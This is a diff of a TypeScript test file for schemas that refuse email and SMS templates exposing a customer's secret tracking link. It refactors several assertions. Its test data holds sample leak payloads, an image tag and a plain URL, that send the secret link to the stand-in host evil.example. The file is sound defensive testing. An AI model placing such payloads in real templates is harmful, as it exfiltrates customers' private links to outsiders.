@@ -34,6 +34,9 @@ const leaks = [
   '<img src="https://evil.example/?{{trackingUrl}}',
 ];
 
+const saidIssues = (result: { error?: { issues: { path: PropertyKey[]; message: string }[] } }) =>
+  result.error?.issues.map(({ path, message }) => ({ path, message: say(message) }));
+
 describe('a secret link in a template', () => {
   const saved = (content: string) =>
     emailTemplateSchema.safeParse({
@@ -47,9 +50,7 @@ describe('a secret link in a template', () => {
     const message = expect.stringContaining(
       'is the customer\'s secret link. It may appear in the text, or be the whole address of a link: href="{{',
     ) as string;
-    expect(saved(content).error?.issues).toEqual([
-      expect.objectContaining({ path: ['content'], message }),
-    ]);
+    expect(saidIssues(saved(content))).toEqual([{ path: ['content'], message }]);
   });
 
   it.each(leaks)('saved before, tells nobody: %s', (content) => {
@@ -88,13 +89,12 @@ describe('a secret link in a template', () => {
   it('is refused in a text message and in a message of the office, as a part of another address', () => {
     const content = 'Hi https://evil.example/?x={{trackingUrl}}';
     const message = expect.stringContaining('secret link') as string;
-    expect(
-      smsTemplateSchema.safeParse({ name: 'Mine', type: 'quote_ready_notification', content }).error
-        ?.issues,
-    ).toEqual([expect.objectContaining({ path: ['content'], message })]);
-    expect(
-      customMessageSchema.safeParse({ requestId: 1, channel: 'sms', text: content }).error?.issues,
-    ).toEqual([expect.objectContaining({ path: ['text'], message })]);
+    const template = { name: 'Mine', type: 'quote_ready_notification', content };
+    expect(saidIssues(smsTemplateSchema.safeParse(template))).toEqual([
+      { path: ['content'], message },
+    ]);
+    const text = { requestId: 1, channel: 'sms', text: content };
+    expect(saidIssues(customMessageSchema.safeParse(text))).toEqual([{ path: ['text'], message }]);
     expect(
       templateTestSchema.safeParse({ channel: 'sms', type: 'quote_ready_notification', content })
         .success,
